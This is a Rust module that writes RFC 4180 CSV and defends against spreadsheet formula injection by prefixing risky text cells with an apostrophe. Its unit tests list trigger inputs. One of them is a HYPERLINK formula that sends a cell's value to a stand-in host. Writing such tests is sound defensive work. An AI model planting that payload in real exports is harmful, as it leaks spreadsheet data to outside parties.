//! Comma-separated values as RFC 4180 has them, harmless for spreadsheets.
//!
//! A cell that a spreadsheet would run is led by an apostrophe, which it takes for "this is text". That goes for texts
//! alone: numbers and times are ours, and stay what other programs can read.

/// A cell.
#[derive(Clone, Copy, Debug)]
pub enum Cell<'a> {
    /// What somebody may have written.
    Text(&'a str),
    /// A number, a time or a word of ours, with nothing in it that would have to be quoted.
    Plain(&'a str),
    /// Nothing.
    Empty,
}

impl<'a> Cell<'a> {
    /// A text that may be missing.
    pub fn maybe(text: Option<&'a str>) -> Self {
        text.map_or(Self::Empty, Self::Text)
    }
}

/// Adds a line to the file.
pub fn line<'a>(out: &mut Vec<u8>, cells: impl IntoIterator<Item = Cell<'a>>) {
    for (n, cell) in cells.into_iter().enumerate() {
        if n > 0 {
            out.push(b',');
        }
        match cell {
            Cell::Empty => {}
            Cell::Plain(word) => out.extend_from_slice(word.as_bytes()),
            Cell::Text(text) => quote(out, text),
        }
    }
    out.extend_from_slice(b"\r\n");
}

/// Always in quotes: where a spreadsheet parts cells by semicolons, what is bare would fall apart into other cells.
fn quote(out: &mut Vec<u8>, text: &str) {
    out.push(b'"');
    if would_run(text) {
        out.push(b'\'');
    }
    for byte in text.bytes() {
        if byte == b'"' {
            out.push(b'"');
        }
        out.push(byte);
    }
    out.push(b'"');
}

/// Whether a spreadsheet may take it for a formula, full-width signs and what hides them included.
fn would_run(text: &str) -> bool {
    let hidden =
        |sign: char| sign.is_whitespace() || sign.is_control() || matches!(sign, '\u{feff}' | '\u{200b}');
    let begins = text.starts_with(['\t', '\r', '\n']);
    begins
        || text
            .trim_start_matches(hidden)
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: &[Cell<'_>]) -> String {
        let mut out = Vec::new();
        line(&mut out, cells.iter().copied());
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn case_d13_what_a_spreadsheet_would_run_is_text() {
        for text in [
            r#"=HYPERLINK("http://e.test?x="&A1)"#,
            "+1",
            "-2+3",
            "-12.50",
            "@SUM(1)",
            "\t=1+1",
            "\r\n=1",
            "\n1",
            "＝1+1",
            "＠SUM(1)",
            " =1+1",
            "\u{feff}=1",
            "\u{200b}\u{a0}=1",
        ] {
            let line = written(&[Cell::Text(text)]);
            assert!(line.starts_with("\"'"), "{line:?}");
            assert_eq!(
                line,
                format!("\"'{}\"\r\n", text.replace('"', "\"\"")),
                "nothing of it is lost"
            );
        }
        for text in ["a=1", "12", "a,b", "Ada", "", "'quoted'", "🙂"] {
            assert!(!written(&[Cell::Text(text)]).starts_with("\"'="), "{text}");
            assert!(!would_run(text), "{text}");
        }
    }

    #[test]
    fn case_d13_numbers_stay_numbers() {
        let cells = [
            Cell::Plain("-12.50"),
            Cell::Text("-12.50"),
            Cell::Empty,
            Cell::Plain("7"),
        ];
        assert_eq!(written(&cells), "-12.50,\"'-12.50\",,7\r\n");
    }

    #[test]
    fn a_line_is_what_rfc_4180_says() {
        let cells = [
            Cell::Text("a,b"),
            Cell::Text("she said \"no\""),
            Cell::Text("two\r\nlines 🙂"),
            Cell::maybe(None),
        ];
        assert_eq!(
            written(&cells),
            "\"a,b\",\"she said \"\"no\"\"\",\"two\r\nlines 🙂\",\r\n"
        );
    }
}
